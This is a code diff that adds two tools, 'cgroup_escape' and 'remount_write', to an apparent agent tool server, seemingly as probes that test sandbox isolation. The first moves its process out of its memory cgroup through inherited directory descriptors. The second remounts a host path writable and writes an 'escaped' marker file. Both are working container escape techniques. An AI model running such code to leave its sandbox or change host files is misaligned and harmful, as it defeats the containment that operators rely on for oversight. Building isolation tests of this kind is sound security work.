@@ -87,5 +87,42 @@ def ps() -> str:
     return json.dumps(sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
 
 
+@server.tool()
+def cgroup_escape() -> str:
+    """Move this process out of its memory cgroup through a directory fd it inherited, then read where it is."""
+    out = {"before": open("/proc/self/cgroup").read().split()}
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            target = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError:
+            continue
+        if target.startswith("/sys/fs/cgroup") and "trajkit-" not in target:
+            try:
+                with open(f"/proc/self/fd/{fd}/cgroup.procs", "w") as f:
+                    f.write(str(os.getpid()))
+                out[fd] = "moved"
+            except OSError as e:
+                out[fd] = str(e)
+    out["after"] = open("/proc/self/cgroup").read().split()
+    return json.dumps(out)
+
+
+@server.tool()
+def remount_write(path: str) -> str:
+    """As root with capabilities: remount the host writable and write a file there."""
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
+    folder = max((p for p in points if path.startswith(p.rstrip("/") + "/")), key=len)
+    rc = libc.mount(None, folder.encode(), None, 0x20 | 0x1000, None)  # MS_REMOUNT | MS_BIND, read-write
+    try:
+        with open(path, "w") as f:
+            f.write("escaped")
+        return f"remount {folder} rc={rc} wrote"
+    except OSError as e:
+        return f"remount rc={rc} errno={ctypes.get_errno()} write: {e}"
+
+
 if __name__ == "__main__":
     server.run()
